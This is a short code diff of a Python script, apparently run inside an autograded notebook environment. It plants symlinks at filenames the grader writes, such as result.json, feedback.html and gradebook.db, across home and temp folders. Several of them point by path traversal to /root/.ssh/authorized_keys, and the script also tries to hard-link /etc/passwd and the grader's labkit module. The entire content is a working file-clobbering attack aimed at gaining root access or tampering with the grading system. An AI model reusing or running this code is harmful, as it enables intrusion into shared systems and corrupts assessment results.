@@ -4,7 +4,7 @@
 
 # %% own
 names = ("01-mnist-autoencoder.ipynb", "result.json", "results.json", "output", "feedback.html", "index.html", "gradebook.db")
-for folder in ("/tmp/work", "/tmp/home", "/tmp", "/dev/shm"):
+for folder in {HERE, HOME, *filter(can_write, ("/tmp", "/dev/shm"))}:
     for number, name in enumerate(names):
         place = os.path.join(folder, name)
         if number % 3 == 0:
@@ -15,6 +15,6 @@ for folder in ("/tmp/work", "/tmp/home", "/tmp", "/dev/shm"):
             os.symlink("../../../../../../root/.ssh/authorized_keys", place)
 for name in ("/etc/passwd", labkit.__file__):
     try:
-        os.link(name, "/tmp/home/hard")
+        os.link(name, HOME + "/hard")
     except OSError:
         pass
